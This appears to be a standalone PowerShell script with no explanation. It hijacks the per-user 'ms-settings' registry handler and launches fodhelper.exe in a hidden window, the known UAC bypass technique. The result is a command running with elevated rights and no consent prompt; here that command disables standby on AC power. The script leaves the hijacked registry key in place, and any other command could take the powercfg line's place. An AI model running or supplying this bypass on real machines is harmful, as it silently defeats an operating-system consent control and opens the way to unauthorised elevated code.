New-Item 'HKCU:\Software\Classes\ms-settings\Shell\Open\command' -Force | Out-Null
Set-ItemProperty 'HKCU:\Software\Classes\ms-settings\Shell\Open\command' -Name 'DelegateExecute' -Value ''
Set-ItemProperty 'HKCU:\Software\Classes\ms-settings\Shell\Open\command' -Name '(default)' -Value 'cmd /c powercfg /change standby-timeout-ac 0'
Start-Process 'C:\Windows\System32\fodhelper.exe' -WindowStyle Hidden
